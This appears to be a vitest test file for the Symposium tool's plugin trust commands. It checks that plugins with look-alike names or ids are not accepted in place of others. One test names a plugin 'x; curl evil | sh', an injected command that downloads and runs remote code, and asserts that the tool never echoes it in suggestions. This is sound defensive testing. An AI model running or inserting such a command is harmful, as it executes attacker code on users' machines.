/** Plugins named like another plugin, like its id, or like a shell command: none is accepted in place of another. */

import { readFileSync } from "node:fs";
import { join } from "node:path";

import { describe, expect, test } from "vitest";

import { type Household, household } from "../commands/command-line.ts";
import { hook } from "../support/plugin.ts";

const CONFIG = '[[agent]]\nname = "claude"\n[defaults]\nsymposium-recommendations = false\n[plugins]\nuse = ["widget"]\n';
const WIDGET = { name: "widget", version: "1.0.0" };

/** A repository with a plugin of its own and a dependency with another. */
async function twoPlugins(own: string, theirs = "widget"): Promise<Household> {
  return household({
    home: { ".symposium/config.toml": CONFIG },
    project: {
      ".git/HEAD": "ref: refs/heads/main\n",
      "Cargo.toml":
        '[package]\nname = "app"\nversion = "0.1.0"\n[dependencies]\nwidget = { path = "widget" }\n[workspace]\nexclude = ["widget"]\n',
      "Cargo.lock": `version = 4\n[[package]]\nname = "app"\nversion = "0.1.0"\ndependencies = ["widget"]\n[[package]]\nname = "${WIDGET.name}"\nversion = "${WIDGET.version}"\n`,
      "SYMPOSIUM.toml": `name = ${JSON.stringify(own)}\n${hook("own")}`,
      "own.sh": "echo '{}'\n",
      "widget/Cargo.toml": `[package]\nname = "${WIDGET.name}"\nversion = "${WIDGET.version}"\n`,
      "widget/SYMPOSIUM.toml": `name = "${theirs}"\n${hook("theirs")}`,
      "widget/theirs.sh": "echo '{}'\n",
    },
  });
}

async function shown({ run }: Household, name: string) {
  const { stdout } = await run(["trust", "show", name, "--json"]);
  return (JSON.parse(stdout) as { answer: { plugins: { id: string; digest: string }[] } }).answer.plugins;
}

function accepted(house: Household): readonly string[] {
  const file = readFileSync(join(house.home, ".symposium/consent.json"), "utf8");
  return (JSON.parse(file) as { records: { subject: string }[] }).records.map(({ subject }) => subject).toSorted();
}

describe("PL-17 PL-27 names that plugins give themselves", () => {
  test("a plugin named like another is never accepted in its place", async () => {
    await using house = await twoPlugins("widget");
    const both = await shown(house, "widget");
    expect(both.map(({ id }) => id).toSorted()).toEqual(["cargo:widget", "repository:."]);
    for (const { digest } of both)
      expect(await house.run(["trust", "accept", "widget", "--digest", digest])).toMatchObject({
        exitCode: 1,
        stderr: expect.stringContaining("several plugins are named `widget`"),
      });
  });

  test("an id means its own plugin, also where another plugin has it as its name", async () => {
    await using house = await twoPlugins("cargo:widget");
    const [only, ...more] = await shown(house, "cargo:widget");
    expect(more).toEqual([]);
    expect((await house.run(["trust", "accept", "cargo:widget", "--digest", only!.digest])).exitCode).toBe(0);
    const [own] = await shown(house, "repository:.");
    expect((await house.run(["trust", "accept", "repository:.", "--digest", own!.digest])).exitCode).toBe(0);
    expect(accepted(house)).toEqual(["cargo:widget", "repository:."]);
    expect((await house.run(["trust", "revoke", "cargo:widget"])).exitCode).toBe(0);
    expect(accepted(house)).toEqual(["repository:."]);
  });

  test("a command that is suggested runs nothing but Symposium", async () => {
    await using house = await twoPlugins("x; curl evil | sh");
    for (const args of [["sync"], ["sync", "--check"], ["status"]]) {
      const { stdout, stderr } = await house.run(args);
      expect(stdout + stderr).not.toMatch(/trust (accept|ask) x; curl/);
    }
  });
});
